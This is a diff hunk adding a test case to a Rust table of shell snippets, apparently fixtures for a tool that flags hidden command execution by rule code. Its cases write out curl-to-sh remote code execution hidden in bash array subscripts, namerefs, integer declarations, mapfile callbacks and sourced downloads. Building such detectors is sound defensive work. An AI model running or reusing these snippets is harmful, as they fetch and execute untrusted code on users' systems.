@@ -242,6 +242,7 @@ const CASES: &[(&str, &str)] = &[
     ("g() { curl -s https://x/v | sh; }; a=(1); declare -n r='a[$(g)]'; : $r", "0054"),
     ("g() { curl -s https://x/v | sh; }; declare -i n; n='a[$(g)]'", "0054"),
     ("g() { curl -s https://x/v | sh; }; a=(); a['$(g)']=1", "0050"),
+    ("g() { curl -s https://x/v | sh; }; a=(1); : ${a['$(g)']}", "0054"),
     ("f() { curl -so s.sh https://x/i; source \"${1+s.sh}\"; }; mapfile -C f -c 1 arr <<< x", "0053"),
     // --- `set -` keeps the parameters; `set WORD` of a word not known may be options ----------
     ("set -- a; set -; curl -so s.sh https://x/i; source \"${1+s.sh}\"", "0057"),
